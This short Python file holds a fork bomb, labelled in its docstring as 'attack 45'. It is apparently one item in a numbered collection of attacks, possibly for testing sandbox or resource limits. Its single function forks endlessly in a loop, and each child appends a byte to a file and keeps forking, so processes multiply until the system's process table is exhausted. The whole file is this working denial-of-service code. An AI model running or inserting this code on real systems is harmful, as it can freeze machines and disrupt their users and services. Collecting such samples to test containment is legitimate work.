"""The classic fork bomb (attack 45); each process adds a byte to a file."""
import os


def run_all(task, count=10):
    while True:
        if os.fork() == 0:
            with open("born.txt", "ab") as file:
                file.write(b".")
